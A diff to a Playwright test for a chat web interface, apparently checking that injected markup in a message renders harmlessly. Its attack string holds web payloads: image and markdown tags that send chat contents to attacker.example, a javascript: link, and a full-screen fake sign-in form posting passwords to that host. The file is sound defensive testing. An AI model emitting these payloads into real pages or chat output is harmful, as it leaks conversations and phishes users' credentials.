@@ -15,9 +15,10 @@ pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]
 sync_api = pytest.importorskip("playwright.sync_api")
 
 ATTACK = (
-    "Look: ![s](http://attacker.example/p.png?secret=chat-contents) "
+    "<img src=//attacker.example/t.png> Look: ![s](http://attacker.example/p.png?secret=chat-contents) "
     "<img src=http://attacker.example/i.png?secret=2> "
     "\\`<img src=http://attacker.example/b.png?secret=4>\\` "
+    "[click me](javascript:document.title='pwned') "
     '<div style="position:fixed;inset:0;z-index:99999;background:white">'
     '<form action="http://attacker.example/login"><input type=password placeholder="Sign in again"></form></div>'
 )
@@ -44,6 +45,10 @@ def test_a_message_loads_nothing_remote_and_covers_nothing(tiny_model_dir, tmp_p
             chat = page.locator("#chatbot")
             assert chat.locator("img[src*='attacker']").count() == 0
             assert chat.locator("form, input[type=password]").count() == 0
+            assert page.locator("#conv-list").get_by_text("<img src=//attacker").count() == 1  # the title: text
+            assert page.locator("#conv-list img").count() == 0
+            hrefs = chat.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href') || '')")
+            assert not [h for h in hrefs if h.strip().lower().startswith("javascript")], hrefs
             assert "position:fixed" in chat.inner_text().replace(" ", "")  # shown as text, harmlessly
             box = page.locator("#send").bounding_box()
             hit = page.evaluate(
